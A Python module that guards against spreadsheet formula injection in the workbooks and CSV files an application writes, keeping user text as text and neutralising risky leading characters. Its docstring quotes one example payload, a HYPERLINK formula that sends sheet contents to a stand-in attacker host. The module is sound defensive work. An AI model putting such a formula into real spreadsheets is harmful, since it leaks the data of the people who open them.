"""Spreadsheets that keep people's text as text (formula injection, CWE-1236).

A workbook or CSV that ChildFirst writes holds text people typed: an audit's name, an
auditor's evidence, a team's name. Opened in Excel or LibreOffice, text beginning with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) can run as a
formula: ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` sends the sheet's
contents away. So every spreadsheet goes out through this module:

- :func:`workbook_bytes` saves an openpyxl workbook after making every text cell a
  text cell (openpyxl turns any string starting ``=`` into a formula) and marking text
  that starts with one of those characters "quote prefixed", so that editing the cell
  keeps it text. ChildFirst writes no formulas of its own; numbers stay numbers.
- a large workbook is written in openpyxl's write-only mode (``Workbook(write_only=True)``:
  rows streamed as they are appended, quicker to write), with each sheet made by
  :func:`write_only_sheet`, whose ``append`` does the same as each row goes in (a
  write-only sheet cannot be read back afterwards); :func:`styled` makes a cell with a
  font, alignment or number format for such a row. :func:`workbook_bytes` refuses a
  write-only sheet made any other way.
- :func:`workbook_bytes` with ``saved_at`` gives the same bytes each time for the same
  workbook: openpyxl stamps the file with the moment it is saved (the document's
  created and modified times, and each part's time in the zip), so a file that must
  match another run of itself (the KPI return, from the web and from the command) is
  stamped with a time of its own instead.
- :func:`csv_writer` writes CSV rows with such text prefixed by an apostrophe, as
  OWASP advises; plain numbers written as text (``-3``, ``+2.5``) are left alone.

No library does this: openpyxl and :mod:`csv` write what they are given.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.xml.constants import ARC_CORE
from openpyxl.xml.functions import tostring

#: What a spreadsheet program may read as the start of a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")


def risky(value: Any) -> bool:
    """Text a spreadsheet program might run: it starts with a trigger and is not simply
    a number."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)


def _as_text(cell: Cell) -> Cell:
    """``cell`` stored as text if it holds a string (openpyxl reads one starting ``=`` as
    a formula), quote prefixed if a spreadsheet program might run it."""
    if isinstance(cell.value, str):
        if cell.data_type == "f":
            cell.data_type = "s"
        if risky(cell.value):
            cell.quotePrefix = True
    return cell


#: Marks a write-only sheet made by :func:`write_only_sheet`.
_GUARDED = "_childfirst_text_kept_as_text"


def write_only_sheet(book: Workbook, title: str) -> WriteOnlyWorksheet:
    """A new sheet of the write-only ``book`` whose ``append`` keeps text as text: a risky
    string goes in as a quote-prefixed text cell, and a cell (from :func:`styled`) is made
    text if it holds a string. An empty string is left out, as ``None`` is (openpyxl would
    write an empty cell, which reads back as no value: the same sheet, quicker to write).
    Set its column widths and frozen panes before the rows."""
    sheet = book.create_sheet(title)
    if not isinstance(sheet, WriteOnlyWorksheet):
        raise TypeError("write_only_sheet needs Workbook(write_only=True)")
    stream = sheet.append

    def append(row: Iterable[Any]) -> None:
        stream([_safe(sheet, value) for value in row])

    sheet.append = append  # type: ignore[method-assign]
    setattr(sheet, _GUARDED, True)
    return sheet


def _safe(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    """One value of a row going into a write-only sheet."""
    if isinstance(value, str):
        if not value:
            return None
        return _as_text(WriteOnlyCell(sheet, value)) if risky(value) else value
    return _as_text(value) if isinstance(value, Cell) else value


def styled(
    sheet: WriteOnlyWorksheet,
    value: Any = None,
    *,
    font: Font | None = None,
    alignment: Alignment | None = None,
    number_format: str | None = None,
) -> Cell:
    """A cell for a row of a write-only ``sheet``, with the styles given (a cell with a
    style and no value is kept: an empty percentage cell still has its format)."""
    cell = WriteOnlyCell(sheet, value)
    if font is not None:
        cell.font = font
    if alignment is not None:
        cell.alignment = alignment
    if number_format is not None:
        cell.number_format = number_format
    return cell


def workbook_bytes(book: Workbook, saved_at: dt.datetime | None = None) -> bytes:
    """``book`` as .xlsx bytes, every string stored as text, never as a formula; with
    ``saved_at`` (no earlier than 1980, as zip files need), stamped with that time rather
    than the moment of saving, so the same workbook always gives the same bytes. A
    write-only book's text was kept as text as its rows went in (:func:`write_only_sheet`);
    one with a sheet made otherwise is refused (ValueError)."""
    for sheet in book.worksheets:
        if isinstance(sheet, WriteOnlyWorksheet):
            if not getattr(sheet, _GUARDED, False):
                raise ValueError(f"sheet {sheet.title!r} was not made by write_only_sheet")
            continue
        for row in sheet.iter_rows():
            for cell in row:
                _as_text(cell)
    out = io.BytesIO()
    if saved_at is not None:
        book.properties.created = saved_at
    book.save(out)
    if saved_at is None:
        return out.getvalue()
    # openpyxl's save sets the modified time to now, and the zip's parts get the clock's
    # time: the document properties are written again, and every part copied with ours.
    book.properties.modified = saved_at
    stamp = saved_at.timetuple()[:6]
    fixed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(out.getvalue())) as saved,
        zipfile.ZipFile(fixed, "w", zipfile.ZIP_DEFLATED) as copy,
    ):
        for part in saved.infolist():
            data = tostring(book.properties.to_tree()) if part.filename == ARC_CORE else None
            info = zipfile.ZipInfo(part.filename, date_time=stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = part.external_attr
            copy.writestr(info, data if data is not None else saved.read(part))
    return fixed.getvalue()


def csv_safe(value: Any) -> Any:
    """One CSV value: risky text gets a leading apostrophe; anything else as it is."""
    return "'" + value if risky(value) else value


class _SafeWriter:
    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: io.StringIO) -> _SafeWriter:
    """A :func:`csv.writer` (``\\n`` line ends) that neutralises risky text."""
    return _SafeWriter(out)
